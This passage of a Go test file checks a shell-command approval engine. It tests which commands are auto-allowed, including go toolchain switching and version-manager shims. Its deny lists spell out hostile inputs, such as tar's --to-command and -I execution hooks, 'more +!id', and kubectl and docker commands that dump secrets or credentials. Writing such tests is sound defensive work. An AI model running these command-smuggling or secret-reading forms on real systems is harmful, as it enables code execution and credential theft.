			t.Errorf("%q: %s %q", cmd, d.Decision, d.Reasons)
		}
	}
	for _, cmd := range []string{"git log --show-signature", "git log --format=%G?", "git log --pretty=format:%GS", "git cat-file --filters HEAD:x", "git tag -l -v"} {
		if d := decideCmd(newEngine(t, nil), cmd, testCC); d.Decision == Allow {
			t.Errorf("%q allowed", cmd)
		}
	}
}

func TestHistoryInInteractiveShell(t *testing.T) {
	e := newEngine(t, nil)
	if d := decideCmd(e, "history", testCC); d.Decision != Allow {
		t.Errorf("history in a fresh non-interactive shell: %s", d.Decision)
	}
	if d := decideInput(e, "term-1", "bash", true, "history | tail\n", testCC); d.Decision == Allow {
		t.Error("history in an interactive shell allowed")
	}
	if d := decideInput(e, "term-1", "bash", true, "read -r x < f\n", testCC); d.Decision == Allow {
		t.Error("read in an interactive shell allowed")
	}
}

func TestOperatorFamilies(t *testing.T) {
	e := newEngine(t, nil)
	for _, cmd := range []string{"hostnamectl", "hostnamectl status", "timedatectl show", "ip -br addr", "ip route get 1.1.1.1",
		"docker inspect -f '{{.State.Status}}' web", "kubectl get pods -n x", "tar -tzf x.tgz", "gzip -l x.gz", "unzip -l x.zip", "python3 --version"} {
		if d := decideCmd(e, cmd, testCC); d.Decision != Allow {
			t.Errorf("%q: %s %q", cmd, d.Decision, d.Reasons)
		}
	}
	for _, cmd := range []string{"hostnamectl -H evil status", "hostnamectl set-hostname x", "timedatectl set-ntp false", "ip -b x", "ip -force addr",
		"ip addr flush dev eth0", "ip netns exec n id", "docker inspect -f '{{.Config.Env}}' web", "docker inspect -f '{{json .}}' web",
		"docker --context prod ps", "kubectl get secrets", "kubectl get secret/db", "kubectl config view --raw", "kubectl --kubeconfig x get pods",
		"kubectl get pods --token=x", "kubectl plugin-x", "tar -tf host:/x.tar", "tar -t -I evil -f x.tar", "tar -tf x --to-command=id",
		"gzip x", "unzip x.zip", "python3 --version x.py", "python3 -V -c 1", "node -v -e 1", "less -k keys f", "more +!id f", "top",
		"docker stats", "stty sane", "tput reset", "zstd -c --output-dir-flat=/tmp x", "zstd -c --trace=t x", "kubectl get -f manifests/ -o yaml",
		"kubectl config view --flatten", "terraform version", "dotnet --version", "ulimit -n 10", "umask 000", "jobs -x rm x", "alias a=b", "shopt -u x"} {
		if d := decideCmd(e, cmd, testCC); d.Decision == Allow {
			t.Errorf("%q allowed", cmd)
		}
	}
	// a family the user removes is no longer safe
	off := newEngine(t, func(o *Options) { o.Approval.SafeCommands = []string{"!kubectl"} })
	if d := decideCmd(off, "kubectl get pods", testCC); d.Decision == Allow {
		t.Error("kubectl get pods allowed after !kubectl")
	}
}

// A program the project's files make fetch and run another release of
// itself (go's toolchain switch) is safe only where the disk says it
// will not: go version asks in a module asking for a newer Go, and also
// when no disk was looked at.
func TestToolchainFactsAsked(t *testing.T) {
	e := newEngine(t, nil)
	cc := testCC
	cc.Facts = fakeFacts{toolchains: map[string]string{"go /home/u/proj": "go.mod asks for Go 1.99",
		"node /home/u/proj": "node is volta's shim", "node /srv": "node is volta's shim"}}
	for _, cmd := range []string{"go version", "go env GOPATH", "cd sub && go version; cd .. && go env GOOS"} {
		if d := decideCmd(e, cmd, cc); d.Decision == Allow || !strings.Contains(strings.Join(d.Reasons, " "), "1.99") {
			t.Errorf("%s in a module asking for a newer Go: %s %v", cmd, d.Decision, d.Reasons)
		}
	}
	// the directory the command runs in is the one asked
	elsewhere := cc
	elsewhere.Cwd = "/srv"
	if d := decideCmd(e, "go version", elsewhere); d.Decision != Allow {
		t.Errorf("go version elsewhere: %s %v", d.Decision, d.Reasons)
	}
	if d := decideCmd(e, "cd /home/u/proj && go version", elsewhere); d.Decision == Allow {
		t.Error("cd into the module && go version: allowed")
	}
	// any program the disk says a version manager's shim stands for
	for _, c := range []CommandContext{cc, elsewhere} {
		if d := decideCmd(e, "node --version", c); d.Decision == Allow || !strings.Contains(strings.Join(d.Reasons, " "), "shim") {
			t.Errorf("node --version through a shim in %s: %s %v", c.Cwd, d.Decision, d.Reasons)
		}
	}
	if d := decideCmd(e, "cat notes.txt", cc); d.Decision != Allow {
		t.Errorf("cat, no shim: %s %v", d.Decision, d.Reasons)
	}
	cc.Facts = nil
	if d := decideCmd(e, "go version", cc); d.Decision == Allow {
		t.Error("go version allowed with no disk looked at")
	}
	if d := decideCmd(e, "go version", testCC); d.Decision != Allow {
		t.Errorf("go version with no release asked for: %s %v", d.Decision, d.Reasons)
	}
}
